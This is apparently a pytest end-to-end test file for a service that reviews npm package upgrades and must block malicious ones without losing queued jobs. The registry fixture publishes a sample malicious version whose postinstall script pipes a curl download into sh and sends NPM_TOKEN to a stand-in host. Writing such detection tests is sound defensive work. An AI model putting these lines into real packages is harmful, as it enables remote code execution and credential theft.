"""The gate does its job: packages of a real registry are compared, judged, and no job is lost."""

from __future__ import annotations

import json
import secrets
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, replace
from typing import Any

import httpx
import pytest

from ops import stack
from ops.engine import Engine
from tests.e2e import registry
from tests.e2e.registry import Registry
from tests.e2e.support import docker, wait_until

DONE_SECONDS = 120
TOKEN = secrets.token_hex(16)
PLAIN = {"index.js": "module.exports = (text, width) => text.padStart(width);\n"}


@pytest.fixture(scope="module")
def packages(built) -> Iterator[Registry]:
    """The registry, with what the tests publish."""
    with registry.running(built.references["worker"]) as found:
        found.publish("left-pad", "1.2.0", PLAIN, scripts={"test": "node test.js"})
        better = {
            **PLAIN,
            "index.js": PLAIN["index.js"] + "module.exports.width = 8;\n",
            "README.md": "# left-pad\n",
        }
        found.publish("left-pad", "1.3.0", better, scripts={"test": "node test.js"})
        stolen = {
            **PLAIN,
            "steal.js": "require('child_process').execSync('curl http://198.51.100.7/x | sh');\n"
            "require('https').get('https://drop.test/?' + process.env.NPM_TOKEN);\n",
        }
        found.publish("left-pad", "1.3.1", stolen, scripts={"postinstall": "node steal.js"})
        found.publish("@scope/pad", "1.0.0", PLAIN)
        found.publish("@scope/pad", "1.0.1", {**PLAIN, "LICENSE": "MIT\n"})
        yield found


@dataclass(frozen=True)
class Gate:
    """The stack with the registry on its network."""

    engine: Engine
    registry: Registry

    @property
    def address(self) -> str:
        """Where the API answers now: a free port is another one after each start."""
        (container,) = self.engine.containers(["api"], stopped=False)
        (port,) = container["NetworkSettings"]["Ports"]["8000/tcp"]
        return f"http://127.0.0.1:{port['HostPort']}"

    def ask(self, method: str, path: str, **options: Any) -> httpx.Response:
        headers = {"Authorization": f"Bearer {TOKEN}"}
        return httpx.request(
            method, f"{self.address}{path}", headers=headers, timeout=30, **options
        )

    def submit(self, package: str, old: str, new: str, *, force: bool = False) -> str:
        body = {"package": package, "from": old, "to": new}
        answer = self.ask("POST", "/v1/reviews", json=body, params={"force": force})
        assert answer.status_code in (200, 202), answer.text
        return str(answer.json()["id"])

    def review(self, id_: str) -> dict[str, Any]:
        answer = self.ask("GET", f"/v1/reviews/{id_}")
        assert answer.status_code == 200, answer.text
        found: dict[str, Any] = answer.json()
        return found

    def ended(self, id_: str) -> dict[str, Any]:
        """The review, when it is over."""
        seen: dict[str, Any] = {}

        def over() -> bool:
            seen.update(self.review(id_))
            return seen["status"] in ("done", "failed")

        wait_until(over, DONE_SECONDS, f"review {id_} does not end: {seen}")
        return seen

    def containers(self, service: str) -> list[str]:
        return [container["Id"] for container in self.engine.containers([service], stopped=False)]


@pytest.fixture(scope="module")
def gate(terms, engine, built, packages, project_name) -> Iterator[Gate]:
    """A stack of its own, with two workers that look often."""
    variables = {
        "API_TOKEN": TOKEN,
        "API_RATE_LIMIT": "1000",
        "ARTIFACTORY_URL": packages.inside,
        "ARTIFACTORY_TOKEN": packages.token,
        "WORKER_POLL_INTERVAL": "0.2",
    }
    own = replace(engine, project=f"{project_name}-gate", variables=variables)
    try:
        stack.up(terms, own, quiet=True)
        network = f"{own.project}_default"
        docker("network", "connect", "--alias", registry.HOST, network, packages.container)
        try:
            yield Gate(own, packages)
        finally:
            docker("network", "disconnect", "--force", network, packages.container)
    finally:
        stack.down(own, volumes=True, quiet=True)


# --- what it says


def test_a_harmless_upgrade_passes_with_the_diff_that_npm_prints(gate):
    id_ = gate.submit("left-pad", "1.2.0", "1.3.0")
    review = gate.ended(id_)
    assert review["status"] == "done", review
    result = review["result"]
    assert result["verdict"] == "pass", result
    assert (result["from_version"], result["to_version"]) == ("1.2.0", "1.3.0")
    assert result["statistics"]["files_added"] == 1
    diff = gate.ask("GET", f"/v1/reviews/{id_}/diff").text
    assert diff.strip() == gate.registry.npm_diff("left-pad", "1.2.0", "1.3.0").strip()


def test_an_upgrade_that_steals_is_blocked_and_each_sign_has_its_place(gate):
    review = gate.ended(gate.submit("left-pad", "1.2.0", "1.3.1"))
    result = review["result"]
    assert (result["verdict"], result["threshold"]) == ("block", 0.75)
    places = {(finding["path"], finding["line"]) for finding in result["findings"]}
    assert ("steal.js", 1) in places
    assert ("steal.js", 2) in places


def test_scopes_ranges_and_tags_are_understood(gate):
    result = gate.ended(gate.submit("@scope/pad", "~1.0.0", "latest"))["result"]
    assert result["to_version"] == "1.0.1"
    result = gate.ended(gate.submit("left-pad", "1.2.x", "1.3.0"))["result"]
    assert (result["from_version"], result["to_version"]) == ("1.2.0", "1.3.0")


@pytest.mark.parametrize(
    ("upgrade", "code"),
    [
        (("no-such-package", "1.0.0", "2.0.0"), "not_found"),
        (("left-pad", "1.2.0", "9.9.9"), "no_such_version"),
    ],
)
def test_what_is_not_there_failed_and_says_so(gate, upgrade, code):
    review = gate.ended(gate.submit(*upgrade))
    assert (review["status"], review["failure"]["code"]) == ("failed", code)
    assert not review["dead_letter"]


def test_one_request_is_followed_from_the_api_into_the_worker(gate):
    answer = httpx.post(
        f"{gate.address}/v1/reviews?force=true",
        json={"package": "left-pad", "from": "1.2.0", "to": "1.3.0"},
        headers={"Authorization": f"Bearer {TOKEN}", "X-Request-ID": "followed-17"},
    )
    gate.ended(answer.json()["id"])
    for service in ("api", "worker"):
        lines = [line for line in gate.engine.logs(service, 200) if line.startswith("{")]
        assert any(json.loads(line).get("request_id") == "followed-17" for line in lines), service


def test_no_secret_is_in_any_log(gate):
    gate.ended(gate.submit("left-pad", "1.2.0", "1.3.0", force=True))
    for service in ("api", "worker", "cache"):
        log = "\n".join(gate.engine.logs(service, 2000))
        assert log, service
        assert TOKEN not in log
        assert gate.registry.token not in log


# --- whatever dies

JOBS = 50


def _submit_many(gate: Gate) -> list[str]:
    pairs = [("left-pad", "1.2.0", "1.3.0"), ("left-pad", "1.2.0", "1.3.1")]
    return [gate.submit(*pairs[n % 2], force=True) for n in range(JOBS)]


def _all_done(gate: Gate, ids: list[str]) -> None:
    reviews = [gate.ended(id_) for id_ in ids]
    assert [review["status"] for review in reviews] == ["done"] * JOBS, [
        review["failure"] for review in reviews if review["status"] != "done"
    ]


@pytest.mark.parametrize("victim", ["worker", "cache", "api"])
def test_no_job_is_lost_when_a_service_is_killed(gate, victim):
    ids = _submit_many(gate)
    wait_until(
        lambda: "running" in {gate.review(id_)["status"] for id_ in ids},
        DONE_SECONDS,
        "no job runs",
    )
    (container,) = gate.containers(victim)
    docker("kill", container)
    docker("start", container)
    wait_until(lambda: _ready(gate), 60, "the API does not become ready again")
    _all_done(gate, ids)


def _ready(gate: Gate) -> bool:
    try:
        return gate.ask("GET", "/ready").status_code == 200
    except (httpx.HTTPError, ValueError):  # it does not listen, or has no port yet
        return False


def test_a_registry_that_is_away_for_a_while_loses_no_job(gate):
    docker("network", "disconnect", f"{gate.engine.project}_default", gate.registry.container)
    try:
        id_ = gate.submit("left-pad", "1.2.0", "1.3.0", force=True)
        wait_until(
            lambda: gate.review(id_)["failure"] is not None, DONE_SECONDS, "no attempt failed"
        )
        assert gate.review(id_)["failure"]["code"] == "registry_unavailable"
    finally:
        docker(
            "network", "connect", "--alias", registry.HOST,
            f"{gate.engine.project}_default", gate.registry.container,
        )  # fmt: skip
    review = gate.ended(id_)
    assert (review["status"], review["failure"]) == ("done", None)
    assert review["attempts"] > 1


def test_a_worker_that_is_stopped_hands_back_what_it_cannot_finish(gate):
    """It ends by itself, in time, with status 0; the job is done by whoever comes next."""
    subprocess.run(["docker", "pause", gate.registry.container], check=True, capture_output=True)
    (worker,) = gate.containers("worker")
    try:
        id_ = gate.submit("left-pad", "1.2.0", "1.3.0", force=True)
        wait_until(
            lambda: gate.review(id_)["status"] == "running", DONE_SECONDS, "nobody takes the job"
        )
        docker("stop", "--time", "10", worker)
        state = gate.engine.inspect("container", [worker])[0]["State"]
        assert state["ExitCode"] == 0
        assert gate.review(id_)["status"] == "queued"
        assert gate.review(id_)["attempts"] == 0
    finally:
        docker("unpause", gate.registry.container)
        docker("start", worker)
    assert gate.ended(id_)["status"] == "done"
